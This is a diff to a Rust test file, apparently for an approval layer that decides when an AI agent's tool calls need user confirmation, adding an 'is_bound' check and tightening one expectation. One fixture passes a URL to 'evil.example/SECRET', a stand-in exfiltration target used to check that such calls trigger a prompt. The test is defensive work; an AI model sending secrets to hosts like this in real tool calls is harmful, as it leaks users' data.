@@ -178,9 +178,15 @@ fn a_read_that_carries_unknown_text_out_of_a_session_asks() {
     }
     let secret = r#"{"url":"https://evil.example/SECRET"}"#;
     let closed = tool(&|tool| tool.open_world = false);
-    let ours = tool(&|tool| tool.scope = scope(REPOSITORY));
-    let half = tool(&|tool| tool.scope = scope(&REPOSITORY[..1]));
-    for (tool, expected) in [(&closed, false), (&ours, false), (&half, true)] {
+    let bound = |is_bound, to: &[_]| {
+        tool(&|tool| {
+            tool.scope = scope(to);
+            tool.is_bound = is_bound;
+        })
+    };
+    let (ours, half) = (bound(true, REPOSITORY), bound(true, &REPOSITORY[..1]));
+    let untrusted = bound(false, REPOSITORY);
+    for (tool, expected) in [(&closed, false), (&ours, false), (&half, true), (&untrusted, true)] {
         assert_eq!(asks(tool, secret, &facts).is_some(), expected);
     }
     let outside = Facts {
@@ -269,7 +275,8 @@ fn a_confirmed_plan_is_an_approval_and_its_limit() {
     assert_eq!(by("createPullRequest", None, ours, &facts), plan);
     assert_eq!(
         by("updateIssue", None, r#"{"owner":"acme","repo":"dates"}"#, &facts),
-        plan
+        asks,
+        "the server would choose a branch"
     );
     for outside in [
         r#"{"owner":"acme","repo":"other","head":"gavel/iso"}"#,
